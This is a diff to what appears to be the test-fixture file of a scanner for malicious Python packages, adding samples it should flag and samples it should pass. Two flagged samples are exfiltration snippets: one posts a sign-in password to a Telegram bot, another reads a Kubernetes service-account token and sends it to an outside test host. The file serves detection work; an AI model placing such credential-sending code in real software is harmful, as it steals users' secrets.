@@ -7,6 +7,20 @@ const at = (rule: string, line: number): Sample['expected'] => [
 
 /** What functions of Python are given, in names that are looked up and in bytes that are sent without a protocol. */
 export const TOLD: readonly Sample[] = [
+  {
+    name: 'Python: a password, by the robot of a messenger whose key the code has',
+    files: wheel(
+      'import requests\ndef sign_in(name, password):\n    requests.post("https://api.telegram.org/bot1:AA/sendMessage", json={"text": password})\n',
+    ),
+    expected: at('given-secret', 3),
+  },
+  {
+    name: "Python: a pod's account, to another host",
+    files: wheel(
+      'from urllib.request import Request, urlopen\nTOKEN = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()\nurlopen(Request("https://kubernetes.weir.test/", headers={"Authorization": TOKEN}))\n',
+    ),
+    expected: at('credentials', 3),
+  },
   ...['getfqdn(%)', 'gethostbyname_ex(%)', 'getaddrinfo(%, 80)'].map((call) => ({
     name: `Python: a key that a class is made with, in a name: ${call}`,
     files: wheel(
@@ -39,6 +53,18 @@ export const TOLD: readonly Sample[] = [
 
 /** Statistics, logs and look-ups as libraries have them. */
 export const TOLD_HONEST = [
+  quiet(
+    'Python: the robot of a messenger, whose key is given',
+    wheel(
+      'import base64, requests\ndef tell(access_token, secret_key, text):\n    sign = base64.b64encode(secret_key.encode() + b"1").decode()\n    requests.post(f"https://oapi.dingtalk.com/robot/send?access_token={access_token}&sign={sign}", json={"text": text})\n',
+    ),
+  ),
+  quiet(
+    "Python: a pod's account, to its own cluster",
+    wheel(
+      'from urllib.request import Request, urlopen\ndef token():\n    return open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()\ndef ask(path):\n    return urlopen(Request("https://kubernetes.default.svc" + path, headers={"Authorization": "Bearer " + token()})).read()\n',
+    ),
+  ),
   quiet(
     'Python: statistics to a fixed host, which tell the kind of a database',
     wheel(
